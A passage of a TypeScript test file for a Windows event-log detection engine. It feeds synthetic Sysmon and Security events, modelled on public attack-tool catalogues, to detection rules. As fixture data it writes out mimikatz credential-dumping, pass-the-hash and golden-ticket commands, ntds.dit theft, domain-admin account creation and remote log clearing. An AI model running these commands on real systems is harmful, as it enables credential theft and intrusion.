    expect(titlesOf(proc(13, 'C:\\Program Files\\Vendor\\agent.exe', 'agent.exe --id 31d6cfe0d16ae931b73c59d7e0c089c0 --server https://mgmt.example.net:8443'))).not.toContain(PTH);
    const RDP = 'Remote Desktop Session Program Started';
    expectHit(RDP, proc(14, `${S32}rdpclip.exe`, 'rdpclip', { ParentProcessName: `${S32}svchost.exe` }), 'informational', 'lateral-movement');
    expectHit(RDP, sysmon1(15, `${S32}TSTheme.exe`, 'C:\\Windows\\system32\\TSTheme.exe -Embedding', { ParentImage: `${S32}svchost.exe` }), 'informational', 'lateral-movement');
    expect(titlesOf(proc(16, `${S32}mstsc.exe`, 'mstsc /v:ws02'))).not.toContain(RDP);
    const SHARE = 'Administrative Share Of Another Host Named On A Command Line';
    expectHit(SHARE, proc(27, `${S32}cmd.exe`, 'cmd /c dir \\\\ws02\\c$\\Users'), 'low', 'lateral-movement');
    expectHit(SHARE, sysmon1(28, `${S32}Robocopy.exe`, 'robocopy C:\\Users\\bob\\t \\\\10.0.0.5\\ADMIN$\\Temp a.exe'), 'low', 'lateral-movement');
    expect(titlesOf(proc(29, `${S32}cmd.exe`, 'cmd /c dir \\\\fileserver\\projects$\\x'))).not.toContain(SHARE);
    expect(titlesOf(proc(30, `${S32}cmd.exe`, 'cmd /c type \\\\?\\C:\\Users\\bob\\a.txt'))).not.toContain(SHARE);
    const HIVE = 'Registry Hive Copy Written Outside The Windows Folder (Sysmon 11)';
    const file = (t: number, image: string, target: string): Ev => sysmon(t, 11, { Image: image, TargetFilename: target });
    expectHit(HIVE, file(17, `${S32}reg.exe`, 'C:\\Users\\bob\\AppData\\Local\\Temp\\sam.save'), 'medium', 'credential-access');
    expectHit(HIVE, file(18, `${S32}ntdsutil.exe`, 'C:\\Windows\\Temp\\ifm\\registry\\SYSTEM'), 'medium', 'credential-access');
    expectHit(HIVE, file(19, `${S32}esentutl.exe`, 'C:\\ProgramData\\SAM'), 'medium', 'credential-access');
    expect(titlesOf(file(20, `${S32}svchost.exe`, 'C:\\Windows\\System32\\config\\RegBack\\SYSTEM'))).not.toContain(HIVE);
    expect(titlesOf(file(21, 'C:\\Users\\bob\\app.exe', 'C:\\Users\\bob\\Documents\\system.log'))).not.toContain(HIVE);
  });

  const crate = path.join(corpora, 'evtx', 'evtx-crate');
  it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
    const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
    expect(files.length).toBeGreaterThan(3);
    let events = 0;
    for (const f of files) {
      const a = analyzePaths([path.join(crate, f)], { evidenceRoot: crate, sigma: builtin, kind: 'evtx' });
      events += a.events.length;
      const loud = (a.detections?.summary() ?? []).filter((d) => d.level === 'high' || d.level === 'critical').map((d) => `${f}: ${d.title}`);
      expect(loud).toEqual([]);
    }
    expect(events).toBeGreaterThan(5000);
  });
});

// The tool pages of a public lateral-movement catalogue (JPCERT/CC's Tool Analysis Result Sheet: the events each tool
// leaves on the source and destination hosts) and the public descriptions of offensive suites (Impacket, CrackMapExec,
// Rubeus, SharpHound, Metasploit, Cobalt Strike's defaults), written as Sysmon, 4688 and 4104 events: each unit (one
// host's side of one tool) must be tagged by the default set with a technique of the tool's tactic (any level).
describe('tool footprints of a public lateral-movement catalogue through the default set', () => {
  interface Unit { name: string; tactics: string[]; events: Ev[] }
  let t = 0;
  const win2 = (channel: string, provider: string, eventId: number, data: JsonRecord, host = 'WS01'): Ev => windowsEvent(t++, channel, provider, eventId, data, host);
  const SM = ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'] as const;
  const sm = (id: number, d: JsonRecord): Ev => win2(SM[0], SM[1], id, d);
  const S32 = 'C:\\Windows\\System32\\';
  const USER = 'CORP\\bob';
  const SYS = 'NT AUTHORITY\\SYSTEM';
  /** Sysmon 1 and 4688 of one process. */
  const p1 = (image: string, cmd: string, parent: string, extra: JsonRecord = {}): Ev => sm(1, { Image: image, CommandLine: cmd, ParentImage: parent, ParentCommandLine: parent, User: USER, IntegrityLevel: 'High', CurrentDirectory: 'C:\\Users\\bob\\', ...extra });
  const p4688 = (image: string, cmd: string, parent: string, extra: JsonRecord = {}): Ev => win2('Security', 'Microsoft-Windows-Security-Auditing', 4688, { SubjectUserName: 'bob', NewProcessName: image, CommandLine: cmd, ParentProcessName: parent, TokenElevationType: '%%1937', ...extra });
  const ps = (text: string): Ev => win2('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, Path: '' });
  const TOOLS = 'C:\\Users\\bob\\Desktop\\tools\\';
  const CMD = `${S32}cmd.exe`;
  const PSH = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
  const procs = (image: string, cmd: string, parent = CMD, extra: JsonRecord = {}): Ev[] => [p1(image, cmd, parent, extra), p4688(image, cmd, parent)];
  const u = (name: string, tactics: string[], events: Ev[]): Unit => ({ name, tactics, events });
  const LM = ['lateral-movement'];
  const EX = ['execution'];
  const CA = ['credential-access'];
  const DE = ['defense-evasion', 'stealth', 'defense-impairment'];
  const PE = ['privilege-escalation'];
  const DI = ['discovery'];
  const C2 = ['command-and-control'];
  const PERS = ['persistence'];
  const lsass = `${S32}lsass.exe`;
  const acc = (src: string, target: string, mask: string, trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e'): Ev => sm(10, { SourceImage: src, TargetImage: target, GrantedAccess: mask, CallTrace: trace });
  const units: Unit[] = [
    // Command execution
    u('PsExec source', [...LM, ...EX], [...procs(`${TOOLS}PsExec.exe`, `${TOOLS}PsExec.exe \\\\ws02 -accepteula cmd /c ipconfig`), sm(13, { EventType: 'SetValue', Image: `${TOOLS}PsExec.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Sysinternals\\PsExec\\EulaAccepted', Details: 'DWORD (0x00000001)' }), sm(3, { Image: `${TOOLS}PsExec.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '445', Protocol: 'tcp' })]),
    u('PsExec source 4688 only', [...LM, ...EX], [p4688(`${TOOLS}PsExec.exe`, `PsExec.exe \\\\ws02 -u corp\\admin -p Passw0rd cmd`, CMD)]),
    u('PsExec target', LM, [sm(11, { Image: 'System', TargetFilename: 'C:\\Windows\\PSEXESVC.exe' }), sm(13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath', Details: '%SystemRoot%\\PSEXESVC.exe' }), ...procs('C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', `${S32}services.exe`, { User: SYS }), ...procs(`${S32}ipconfig.exe`, 'ipconfig', 'C:\\Windows\\PSEXESVC.exe'), sm(17, { EventType: 'CreatePipe', PipeName: '\\PSEXESVC', Image: 'C:\\Windows\\PSEXESVC.exe' })]),
    u('PsExec target, process creation only', LM, [...procs('C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', `${S32}services.exe`, { User: SYS }), ...procs(CMD, '"cmd" /c ipconfig', 'C:\\Windows\\PSEXESVC.exe', { User: 'CORP\\admin' })]),
    u('wmic source', [...LM, ...EX], procs(`${S32}wbem\\WMIC.exe`, 'wmic /node:"ws02" process call create "cmd /c ipconfig > C:\\out.txt"')),
    u('wmic source query', [...LM, ...EX, ...DI], procs(`${S32}wbem\\WMIC.exe`, 'wmic /NODE:"ws02" OS GET CSName')),
    u('wmic target', LM, [...procs(`${S32}wbem\\WmiPrvSE.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', `${S32}svchost.exe`, { User: 'NT AUTHORITY\\NETWORK SERVICE' }), ...procs(CMD, 'cmd /c ipconfig > C:\\out.txt', `${S32}wbem\\WmiPrvSE.exe`, { User: 'CORP\\admin' })]),
    u('wmiexec.vbs source', [...LM, ...EX], [...procs(`${S32}cscript.exe`, `cscript ${TOOLS}wmiexec.vbs /cmd ws02 corp\\admin "Passw0rd" ipconfig`), ...procs(`${S32}net.exe`, 'net use \\\\ws02 "Passw0rd" /user:corp\\admin', CMD)]),
    u('wmiexec.vbs target', LM, [...procs(CMD, 'cmd.exe /c ipconfig.exe > C:\\windows\\temp\\wmi.dll 2>&1', `${S32}wbem\\WmiPrvSE.exe`, { User: 'CORP\\admin' }), ...procs(`${S32}ipconfig.exe`, 'ipconfig.exe', CMD)]),
    u('BeginX server', [...LM, ...EX, ...DE], [...procs(`${S32}netsh.exe`, 'netsh advfirewall firewall add rule name=Trend protocol=TCP dir=in localport=8080 action=allow', 'C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe'), ...procs(`${S32}rundll32.exe`, 'C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\FirewallControlPanel.dll,ShowNotificationDialog /ETOnly 0 /OnProfiles 7 /OtherAllowed 0 /OtherBlocked 0 /OtherEdgeAllowed 0 /NewBlocked 2 "C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe"', `${S32}svchost.exe`), ...procs(CMD, 'cmd /c dir', 'C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe'), sm(3, { Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe', Initiated: 'false', SourceIp: '10.0.0.7', DestinationIp: '10.0.0.12', DestinationPort: '8080', Protocol: 'tcp' })]),
    u('BeginX client', [...LM, ...EX], [...procs(`${TOOLS}bxc.exe`, `${TOOLS}bxc.exe 10.0.0.12:8080 "cmd /c dir"`), sm(3, { Image: `${TOOLS}bxc.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '8080', Protocol: 'tcp' })]),
    u('WinRM source (winrm.vbs)', [...LM, ...EX], procs(`${S32}cscript.exe`, 'cscript //nologo "C:\\Windows\\System32\\winrm.vbs" get wmicimv2/Win32_Service?Name=WinRM -r:ws02')),
    u('WinRM invoke create', [...LM, ...EX], procs(`${S32}cscript.exe`, 'cscript //nologo "C:\\Windows\\System32\\winrm.vbs" invoke Create wmicimv2/Win32_Process @{CommandLine="cmd /c ipconfig"} -r:http://ws02:5985')),
    u('WinRM target', LM, [...procs(`${S32}wbem\\WmiPrvSE.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', `${S32}svchost.exe`), sm(3, { Image: 'System', Initiated: 'false', SourceIp: '10.0.0.7', DestinationPort: '5985', Protocol: 'tcp' })]),
    u('WinRS source', [...LM, ...EX], procs(`${S32}winrs.exe`, 'winrs -r:ws02 ipconfig')),
    u('WinRS target', LM, [...procs(`${S32}winrshost.exe`, 'C:\\Windows\\system32\\WinrsHost.exe -Embedding', `${S32}svchost.exe`), ...procs(CMD, 'C:\\Windows\\system32\\cmd.exe /C ipconfig', `${S32}winrshost.exe`)]),
    u('PowerShell remoting source', [...LM, ...EX], [ps('Invoke-Command -ComputerName ws02 -ScriptBlock { ipconfig }'), ...procs(PSH, 'powershell.exe', `${S32}explorer.exe`)]),
    u('PowerShell remoting target', LM, [...procs(`${S32}wsmprovhost.exe`, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', `${S32}svchost.exe`), ...procs(`${S32}ipconfig.exe`, '"C:\\Windows\\system32\\ipconfig.exe"', `${S32}wsmprovhost.exe`)]),
    u('BITS (PowerShell)', [...C2, ...LM, ...PERS, ...DE], [ps('Start-BitsTransfer -Source \\\\ws02\\c$\\temp\\a.exe -Destination C:\\Users\\bob\\a.exe'), ...procs(PSH, 'powershell.exe', `${S32}explorer.exe`)]),
    u('schtasks source', [...LM, ...EX, ...PERS], [...procs(`${S32}schtasks.exe`, 'C:\\Windows\\System32\\schtasks.exe /Create /S ws02 /U corp\\admin /P Passw0rd /SC ONCE /ST 10:00 /TN upd /TR "C:\\Windows\\Temp\\a.bat"'), ...procs(`${S32}schtasks.exe`, 'C:\\Windows\\System32\\schtasks.exe /Run /S ws02 /U corp\\admin /P Passw0rd /TN upd')]),
    u('schtasks target (taskeng)', [...EX, ...PERS, ...LM], [...procs(`${S32}taskeng.exe`, 'taskeng.exe {D0E4DD8C-3A5A-4A6B-9B1E-3D1C1F1E1A1B} S-1-5-21-1-2-3-500:CORP\\admin:Interactive:[1]', `${S32}svchost.exe`), ...procs(CMD, 'C:\\Windows\\system32\\cmd.exe /c "C:\\Windows\\Temp\\a.bat"', `${S32}taskeng.exe`)]),
    u('at source', [...LM, ...EX, ...PERS], procs(`${S32}at.exe`, 'at \\\\ws02 10:00 C:\\Windows\\Temp\\a.bat')),
    // Password and hash dump
    u('PWDump7', CA, [...procs(`${TOOLS}PwDump7.exe`, 'PwDump7.exe'), acc(`${TOOLS}PwDump7.exe`, lsass, '0x1410')]),
    u('PWDump7, process creation only', CA, procs(`${TOOLS}PwDump7.exe`, 'PwDump7.exe')),
    u('PWDumpX source', [...CA, ...LM], procs(`${TOOLS}PWDumpX.exe`, 'PWDumpX.exe -clph ws02 corp\\admin Passw0rd')),
    u('PWDumpX target', [...CA, ...LM], [sm(11, { Image: 'System', TargetFilename: `${S32}DumpSvc.exe` }), sm(13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\PWDumpX Service\\ImagePath', Details: '%windir%\\system32\\DumpSvc.exe' }), ...procs(`${S32}DumpSvc.exe`, 'C:\\Windows\\system32\\DumpSvc.exe', `${S32}services.exe`, { User: SYS }), acc(`${S32}DumpSvc.exe`, lsass, '0x1410'), sm(11, { Image: `${S32}DumpSvc.exe`, TargetFilename: `${S32}ws02-PWHashes.txt` })]),
    u('Quarks PwDump', CA, [...procs(`${TOOLS}QuarksPwDump.exe`, 'QuarksPwDump.exe -dhl -o out.txt'), sm(11, { Image: `${TOOLS}QuarksPwDump.exe`, TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\SAM-12345.dmp' }), sm(12, { EventType: 'CreateKey', Image: `${TOOLS}QuarksPwDump.exe`, TargetObject: 'HKLM\\QUARKS-SAM' })]),
    u('Quarks PwDump, hive dump file only', CA, [sm(11, { Image: 'C:\\Users\\bob\\Downloads\\qp.exe', TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\SAM-31337.dmp' })]),
    u('mimikatz lsadump::sam', CA, [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" exit'), acc(`${TOOLS}mimikatz.exe`, `${S32}winlogon.exe`, '0x1fffff')]),
    u('mimikatz (renamed, no arguments) reading lsass', CA, [...procs('C:\\Users\\bob\\Desktop\\m64.exe', 'm64.exe'), acc('C:\\Users\\bob\\Desktop\\m64.exe', lsass, '0x1010')]),
    u('mimikatz sekurlsa::tickets /export', CA, [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "sekurlsa::tickets /export" exit'), sm(11, { Image: `${TOOLS}mimikatz.exe`, TargetFilename: `${TOOLS}[0;3e7]-2-0-40e10000-WS01$@krbtgt-CORP.LOCAL.kirbi` })]),
    u('kirbi files written only', CA, [sm(11, { Image: 'C:\\Users\\bob\\Desktop\\m.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\[0;3e7]-2-0-40e10000-WS01$@krbtgt-CORP.LOCAL.kirbi' })]),
    u('WCE', CA, [...procs(`${TOOLS}wce.exe`, 'wce.exe -w'), sm(11, { Image: `${TOOLS}wce.exe`, TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\wceaux.dll' }), sm(8, { SourceImage: `${TOOLS}wce.exe`, TargetImage: lsass, StartAddress: '0x00007FF6A1B21000', StartModule: '', StartFunction: '' })]),
    u('WCE renamed, aux DLL only', CA, [sm(11, { Image: 'C:\\Users\\bob\\Desktop\\w.exe', TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\wceaux.dll' })]),
    u('gsecdump', CA, [...procs(`${TOOLS}gsecdump.exe`, 'gsecdump.exe -a'), acc(`${TOOLS}gsecdump.exe`, lsass, '0x1fffff'), acc(`${TOOLS}gsecdump.exe`, `${S32}winlogon.exe`, '0x1fffff'), acc(`${TOOLS}gsecdump.exe`, `${S32}csrss.exe`, '0x1fffff')]),
    u('lslsass', CA, [...procs(`${TOOLS}lslsass64.exe`, 'lslsass64.exe'), acc(`${TOOLS}lslsass64.exe`, lsass, '0x1438')]),
    u('AceHash dump', CA, [...procs(`${TOOLS}ah.exe`, 'ah.exe -l'), acc(`${TOOLS}ah.exe`, lsass, '0x1FFFFF')]),
    u('AceHash pass the hash', [...LM, ...DE, ...CA], [...procs(`${TOOLS}ah.exe`, 'ah.exe -s admin:CORP:31d6cfe0d16ae931b73c59d7e0c089c0 "cmd.exe"'), ...procs(CMD, 'cmd.exe', `${TOOLS}ah.exe`), acc(`${TOOLS}ah.exe`, lsass, '0x1FFFFF')]),
    u('Find-GPOPasswords', CA, [ps('function Find-GPOPasswords { $files = Get-ChildItem -Path "\\\\$domain\\SYSVOL" -Recurse -Include Groups.xml,Services.xml,ScheduledTasks.xml,DataSources.xml,Drives.xml | Select-String -Pattern "cpassword" }')]),
    u('Get-GPPPassword', CA, [ps('function Get-GPPPassword { [CmdletBinding()] Param() $AesKey = [Byte[]](0x4e,0x99,0x06,0xe8); $Cpassword = $Cpassword.Replace("-","") }'), ps('Get-GPPPassword')]),
    u('Invoke-Mimikatz', CA, [ps('Invoke-Mimikatz -DumpCreds'), acc(PSH, lsass, '0x1010', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|UNKNOWN(00000201A2B3C4D5)')]),
    u('Out-Minidump', CA, [ps('Get-Process lsass | Out-Minidump -DumpFilePath C:\\Users\\bob\\'), acc(PSH, lsass, '0x1fffff'), sm(11, { Image: PSH, TargetFilename: 'C:\\Users\\bob\\lsass_624.dmp' })]),
    u('PowerMemory', CA, [...procs(PSH, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ExecutionPolicy Bypass -File .\\RWMC\\Reveal-MemoryCredentials.ps1 0'), ...procs('C:\\Windows\\Temp\\msdsc.exe', 'C:\\Windows\\temp\\msdsc.exe lsass c:\\windows\\temp', PSH), acc('C:\\Windows\\Temp\\msdsc.exe', lsass, '0x1FFFFF'), ...procs(`${TOOLS}RWMC\\debugger\\pre2r2vm\\cdb.exe`, `${TOOLS}RWMC\\debugger\\pre2r2vm\\cdb.exe -z C:\\Windows\\temp\\lsass.dmp -c ".load mimilib; !mimikatz; q"`, PSH)]),
    u('PowerMemory, dump helper only', CA, [...procs('C:\\Windows\\Temp\\msdsc.exe', 'C:\\Windows\\temp\\msdsc.exe lsass c:\\windows\\temp', PSH)]),
    u('WebBrowserPassView', CA, [...procs(`${TOOLS}WebBrowserPassView.exe`, 'WebBrowserPassView.exe /stext out.txt'), acc(`${TOOLS}WebBrowserPassView.exe`, `${S32}RuntimeBroker.exe`, '0x1410')]),
    u('browser credential store read by a user-folder tool (Sysmon 11/23 absent: file access)', CA, procs('C:\\Users\\bob\\Desktop\\wbpv.exe', 'wbpv.exe /scomma C:\\Users\\bob\\p.csv', CMD, { OriginalFileName: 'WebBrowserPassView.exe' })),
    // Relay
    u('Htran', C2, [...procs(`${TOOLS}htran.exe`, 'htran.exe -tran 443 10.0.0.12 3389'), sm(3, { Image: `${TOOLS}htran.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '3389', Protocol: 'tcp' })]),
    u('Htran renamed', C2, procs('C:\\Users\\Public\\svc.exe', 'svc.exe -slave 203.0.113.5 443 127.0.0.1 3389')),
    u('Fake wpad', [...CA, ...C2], [...procs(`${TOOLS}fakewpad.exe`, 'fakewpad.exe'), sm(3, { Image: `${TOOLS}fakewpad.exe`, Initiated: 'false', SourceIp: '10.0.0.9', DestinationIp: '10.0.0.7', DestinationPort: '80', Protocol: 'tcp' }), sm(3, { Image: 'System', Initiated: 'false', SourceIp: '10.0.0.9', DestinationPort: '137', Protocol: 'udp' })]),
    // Remote login
    u('RDP source', LM, [...procs(`${S32}mstsc.exe`, 'mstsc /v:ws02', `${S32}explorer.exe`), sm(3, { Image: `${S32}mstsc.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '3389', Protocol: 'tcp' })]),
    u('RDP target', LM, [...procs(`${S32}rdpclip.exe`, 'rdpclip', `${S32}svchost.exe`), ...procs(`${S32}TSTheme.exe`, 'C:\\Windows\\system32\\TSTheme.exe -Embedding', `${S32}svchost.exe`), sm(3, { Image: `${S32}svchost.exe`, Initiated: 'false', SourceIp: '10.0.0.7', DestinationIp: '10.0.0.12', DestinationPort: '3389', Protocol: 'tcp' })]),
    u('WCE remote login', [...LM, ...DE], [...procs(`${TOOLS}wce.exe`, 'wce.exe -s admin:CORP:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0 -c "wmic /node:ws02 process call create cmd"'), sm(13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\WCESERVICE\\ImagePath', Details: `${TOOLS}wce.exe -S` }), ...procs(`${TOOLS}wce.exe`, `${TOOLS}wce.exe -S`, `${S32}services.exe`, { User: SYS })]),
    u('mimikatz pth', [...LM, ...DE], [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "sekurlsa::pth /user:admin /domain:corp /ntlm:31d6cfe0d16ae931b73c59d7e0c089c0" exit'), ...procs(CMD, 'cmd.exe', `${TOOLS}mimikatz.exe`), acc(`${TOOLS}mimikatz.exe`, lsass, '0x1438')]),
    // Escalation
    u('MS14-058 exploit', PE, [...procs('C:\\Users\\bob\\Desktop\\x64.exe', 'x64.exe cmd.exe', CMD, { IntegrityLevel: 'Medium' }), ...procs(CMD, 'cmd.exe', 'C:\\Users\\bob\\Desktop\\x64.exe', { User: SYS, IntegrityLevel: 'System' }), acc('C:\\Users\\bob\\Desktop\\x64.exe', CMD, '0x1FFFFF')]),
    u('MS15-078 exploit, 4688 only', PE, [p4688('C:\\Users\\bob\\Desktop\\ms15-078.exe', 'ms15-078.exe cmd.exe', CMD), win2('Security', 'Microsoft-Windows-Security-Auditing', 4688, { SubjectUserName: 'WS01$', SubjectUserSid: 'S-1-5-18', NewProcessName: CMD, CommandLine: 'cmd.exe', ParentProcessName: 'C:\\Users\\bob\\Desktop\\ms15-078.exe', TokenElevationType: '%%1936', MandatoryLabel: 'S-1-16-16384' })]),
    u('SDB UAC bypass', [...PE, ...PERS, ...DE], [...procs(`${S32}sdbinst.exe`, 'sdbinst /q C:\\Users\\bob\\AppData\\LocalLow\\x.sdb'), sm(11, { Image: `${S32}sdbinst.exe`, TargetFilename: 'C:\\Windows\\AppPatch\\Custom\\{a1b2c3d4-0000-0000-0000-000000000000}.sdb' }), ...procs(CMD, 'cmd /c C:\\Users\\bob\\AppData\\LocalLow\\e.bat', `${S32}cliconfg.exe`, { IntegrityLevel: 'High' })]),
    u('MS14-068 (PyKEK) and ticket cache', [...PE, ...CA, ...LM], [...procs(`${TOOLS}ms14-068.exe`, 'ms14-068.exe -u bob@corp.local -s S-1-5-21-1-2-3-1104 -d dc01.corp.local'), sm(11, { Image: `${TOOLS}ms14-068.exe`, TargetFilename: `${TOOLS}TGT_bob@corp.local.ccache` }), ...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "kerberos::ptc TGT_bob@corp.local.ccache" exit')]),
    u('ccache written only', [...PE, ...CA, ...LM], [sm(11, { Image: 'C:\\Users\\bob\\Desktop\\k.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\TGT_bob@corp.local.ccache' })]),
    u('Golden ticket', [...CA, ...LM, ...PE, ...PERS, ...DE], [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "kerberos::golden /user:Administrator /domain:corp.local /sid:S-1-5-21-1-2-3 /krbtgt:31d6cfe0d16ae931b73c59d7e0c089c0 /ticket:Administrator.kiribi" exit'), sm(11, { Image: `${TOOLS}mimikatz.exe`, TargetFilename: `${TOOLS}Administrator.kiribi` })]),
    u('Silver ticket', [...CA, ...LM, ...PE, ...PERS, ...DE], procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /target:ws02.corp.local /service:cifs /rc4:31d6cfe0d16ae931b73c59d7e0c089c0 /ptt" exit')),
    // Information collection
    u('ntdsutil IFM', CA, procs(`${S32}ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\x" q q')),
    u('vssadmin create + copy', CA, [...procs(`${S32}vssadmin.exe`, 'vssadmin create shadow /For=C:'), ...procs(CMD, 'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\ntds.dit')]),
    u('vssadmin files written', CA, [sm(11, { Image: CMD, TargetFilename: 'C:\\temp\\ntds.dit' }), sm(11, { Image: CMD, TargetFilename: 'C:\\temp\\SYSTEM' })]),
    u('csvde', DI, procs(`${S32}csvde.exe`, 'csvde -f C:\\Users\\bob\\ad.csv -r "(objectClass=user)"')),
    u('ldifde', DI, procs(`${S32}ldifde.exe`, 'ldifde -f C:\\Users\\bob\\ad.ldf -p subtree')),
    u('dsquery', DI, procs(`${S32}dsquery.exe`, 'dsquery * -filter "(objectClass=user)" -attr *')),
    u('dcdiag', DI, procs(`${S32}dcdiag.exe`, 'dcdiag /test:dns /s:dc01')),
    u('nltest', DI, procs(`${S32}nltest.exe`, 'nltest /dsgetdc: /force')),
    u('nmap', DI, [...procs(`${TOOLS}nmap.exe`, 'nmap -sS -p 1-1024 10.0.0.0/24')]),
    u('net user add domain', [...PERS], [...procs(`${S32}net.exe`, 'net user support Passw0rd1 /add /domain'), ...procs(`${S32}net1.exe`, 'C:\\Windows\\system32\\net1 user support Passw0rd1 /add /domain', `${S32}net.exe`)]),
    u('net group domain admins add', [...PERS, ...PE], procs(`${S32}net.exe`, 'net group "domain admins" support /add /domain')),
    u('net user delete', [...DE, 'impact'], procs(`${S32}net.exe`, 'net user support /delete /domain')),
    u('net use', LM, procs(`${S32}net.exe`, 'net use \\\\ws02\\c$')),
    u('sdelete', DE, [...procs(`${TOOLS}sdelete.exe`, 'sdelete.exe -p 3 C:\\Users\\bob\\out.txt'), sm(13, { EventType: 'SetValue', Image: `${TOOLS}sdelete.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Sysinternals\\SDelete\\EulaAccepted', Details: 'DWORD (0x00000001)' })]),
    u('sdelete renamed, file names only', DE, [sm(23, { Image: 'C:\\Users\\bob\\Desktop\\sd.exe', TargetFilename: 'C:\\Users\\bob\\AAAAAAAAAAA.AAA' }), sm(11, { Image: 'C:\\Users\\bob\\Desktop\\sd.exe', TargetFilename: 'C:\\Users\\bob\\ZZZZZZZZZZZ.ZZZ' })]),
    u('timestomp', DE, [...procs(`${TOOLS}timestomp.exe`, 'timestomp.exe C:\\Users\\bob\\evil.exe -m "Monday 7/25/2005 5:15:55 AM"'), sm(2, { Image: `${TOOLS}timestomp.exe`, TargetFilename: 'C:\\Users\\bob\\evil.exe', CreationUtcTime: '2005-07-25 05:15:55.000', PreviousCreationUtcTime: '2026-11-30 10:00:00.000' })]),
    u('klist purge', DE, procs(`${S32}klist.exe`, 'klist purge')),
    u('wevtutil cl remote', DE, procs(`${S32}wevtutil.exe`, 'wevtutil cl Security /r:ws02')),
    // Offensive suites
    u('impacket psexec target', LM, [sm(11, { Image: 'System', TargetFilename: 'C:\\Windows\\aBcDeFgH.exe' }), ...procs('C:\\Windows\\aBcDeFgH.exe', 'C:\\Windows\\aBcDeFgH.exe', `${S32}services.exe`, { User: SYS }), sm(17, { EventType: 'CreatePipe', PipeName: '\\RemCom_communicaton', Image: 'C:\\Windows\\aBcDeFgH.exe' }), ...procs(CMD, 'cmd.exe', 'C:\\Windows\\aBcDeFgH.exe', { User: SYS })]),
    u('impacket psexec target, 4688 only', LM, [p4688('C:\\Windows\\aBcDeFgH.exe', 'C:\\Windows\\aBcDeFgH.exe', `${S32}services.exe`), p4688(CMD, 'cmd.exe', 'C:\\Windows\\aBcDeFgH.exe')]),
    u('impacket smbexec target', LM, procs(CMD, 'C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat', `${S32}services.exe`, { User: SYS })),
    u('impacket wmiexec target', LM, procs(CMD, 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.123456 2>&1', `${S32}wbem\\WmiPrvSE.exe`)),
    u('impacket atexec target', LM, procs(CMD, 'cmd.exe /C whoami > C:\\Windows\\Temp\\AbCdEfGh.tmp 2>&1', `${S32}svchost.exe`, { User: SYS })),
    u('impacket dcomexec mmc target', LM, [...procs(`${S32}mmc.exe`, 'C:\\Windows\\system32\\mmc.exe -Embedding', `${S32}svchost.exe`), ...procs(CMD, 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1', `${S32}mmc.exe`)]),
    u('impacket secretsdump target (remote registry)', CA, [sm(11, { Image: `${S32}svchost.exe`, TargetFilename: 'C:\\Windows\\System32\\AbCdEfGh.tmp' }), sm(11, { Image: `${S32}svchost.exe`, TargetFilename: 'C:\\Windows\\Temp\\XyZwAbCd.tmp' })]),
